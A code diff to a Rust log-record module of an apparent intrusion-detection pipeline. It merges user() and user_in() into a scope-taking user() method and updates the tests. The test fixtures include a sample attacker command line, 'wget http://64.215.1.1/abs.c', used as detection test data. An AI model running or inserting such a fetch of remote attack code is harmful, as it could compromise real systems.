@@ -5,6 +5,12 @@
 //! system logs from rsyslog/osquery/ossec, and audit logs from auditd
 //! (§II-A). Each record type here mirrors one of those sources; the
 //! [`LogRecord`] enum is the unit that travels down the alert pipeline.
+//!
+//! String fields are [`Sym`]s minted in the [`SymScope`] of whatever
+//! produced the record (a monitor, a generator, or a service ingest
+//! path). Reading one back takes that scope — [`LogRecord::user`] asks
+//! for it — and [`LogRecord::rescope`] moves a record into another
+//! scope, such as a tenant's.
 
 use std::fmt;
 use std::net::Ipv4Addr;
@@ -296,15 +302,10 @@ impl LogRecord {
         }
     }
 
-    /// The user account associated with the record, if any. This is the key
-    /// the threat model (§III-B) groups attacks by. Resolves against the
-    /// global scope; tenant-scoped records use [`LogRecord::user_in`].
-    pub fn user(&self) -> Option<&'static str> {
-        self.user_sym().map(Sym::as_str)
-    }
-
-    /// [`LogRecord::user`] resolved against an explicit scope.
-    pub fn user_in<'a>(&self, scope: &'a SymScope) -> Option<&'a str> {
+    /// The user account associated with the record, if any, resolved
+    /// against `scope`, the scope the record was minted in. This is the
+    /// key the threat model (§III-B) groups attacks by.
+    pub fn user<'a>(&self, scope: &'a SymScope) -> Option<&'a str> {
         self.user_sym().map(|s| scope.resolve(s))
     }
 
@@ -425,7 +426,7 @@ mod tests {
         assert_eq!(r.src_addr(), Some("103.102.1.1".parse().unwrap()));
         assert_eq!(r.dst_addr(), Some("141.142.2.1".parse().unwrap()));
         assert!(r.host().is_none());
-        assert!(r.user().is_none());
+        assert!(r.user(&SymScope::global()).is_none());
     }
 
     #[test]
@@ -440,7 +441,7 @@ mod tests {
             exe: "/usr/bin/wget".into(),
             cmdline: "wget http://64.215.1.1/abs.c".into(),
         });
-        assert_eq!(r.user(), Some("alice"));
+        assert_eq!(r.user(&SymScope::global()), Some("alice"));
         assert_eq!(r.host(), Some(HostId(2)));
         assert_eq!(r.kind().stem(), "process");
     }
@@ -459,7 +460,7 @@ mod tests {
             cmdline: "wget http://64.215.1.1/abs.c".into(),
         });
         let scoped = r.rescope(&SymScope::global(), &scope);
-        assert_eq!(scoped.user_in(&scope), Some("alice"));
+        assert_eq!(scoped.user(&scope), Some("alice"));
         match (&r, &scoped) {
             (LogRecord::Process(orig), LogRecord::Process(s)) => {
                 assert_eq!(scope.resolve(s.cmdline), "wget http://64.215.1.1/abs.c");
